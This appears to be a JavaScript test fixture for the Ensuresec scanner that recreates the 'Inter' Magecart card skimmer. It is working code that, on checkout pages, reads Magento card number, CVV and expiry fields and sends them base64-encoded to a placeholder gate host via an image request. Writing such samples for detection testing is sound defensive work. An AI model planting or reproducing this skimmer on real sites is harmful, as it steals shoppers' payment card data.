// expect: ES-SHOP-001
// Written for Ensuresec's tests from public descriptions of the "Inter" skimmer kit sold on forums
// (Group-IB, "Sniffer by Inter", and RiskIQ, "Magecart: The state of a growing threat", 2019): it runs only when the
// page address mentions checkout, reads the card inputs by their Magento names, base64-encodes the collected data
// and sends it to the gate in an image request. Not the original code.
var SendGate = "https://gate.analytics-cdn.example/g.php";
var Sniffer = {
  data: {},
  isCheckout: function () { return window.location.href.indexOf("onestepcheckout") > -1 || location.href.indexOf("checkout") > -1; },
  grab: function () {
    var fields = ["payment[cc_number]", "payment[cc_cid]", "payment[cc_exp_month]", "payment[cc_exp_year]"];
    for (var i = 0; i < fields.length; i++) {
      var el = document.getElementsByName(fields[i])[0];
      if (el) Sniffer.data[fields[i]] = el.value;
    }
    var cvv = document.querySelector("input[name='payment[cc_cid]']");
    if (cvv) Sniffer.data.cvv = cvv.value;
  },
  send: function () {
    var img = new Image();
    img.src = SendGate + "?hash=" + btoa(JSON.stringify(Sniffer.data)) + "&domain=" + location.hostname;
  }
};
if (Sniffer.isCheckout()) {
  document.addEventListener("click", function () { Sniffer.grab(); Sniffer.send(); });
}
